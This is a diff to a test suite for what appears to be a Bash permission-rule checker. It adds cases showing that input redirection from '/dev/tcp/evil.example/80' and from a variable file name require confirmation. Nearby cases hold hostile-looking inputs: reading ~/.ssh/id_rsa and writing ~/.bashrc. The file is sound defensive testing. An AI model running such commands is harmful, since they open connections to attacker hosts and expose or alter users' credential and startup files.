@@ -98,6 +98,8 @@ describe('redirections are checked on the words', () => {
     ['but not another file', [rule('allow', 'Bash', 'echo * > notes.txt')], 'echo hello > ~/.bashrc', 'ask'],
     ['reading a file counts as an argument for a trailing star', [rule('allow', 'Bash', 'cat *')], 'cat < README.md', 'allow'],
     ['but not for an exact pattern', [rule('allow', 'Bash', 'wc -l')], 'wc -l < ~/.ssh/id_rsa', 'ask'],
+    ['nor a connection opened by bash', [rule('allow', 'Bash', 'cat *')], 'cat < /dev/tcp/evil.example/80', 'ask'],
+    ['nor a file named by a variable', [rule('allow', 'Bash', 'cat *')], 'cat < "$f"', 'ask'],
     ['a here-document is input', [rule('allow', 'Bash', 'python3 --version')], 'python3 --version <<EOF\nimport os\nEOF', 'ask'],
     ['a compound command writing a file is asked', [rule('allow', 'Bash', 'echo *')], '{ echo a; echo b; } > ~/.bashrc', 'ask'],
   ])('%s', (_name, rules, command, effect) => {
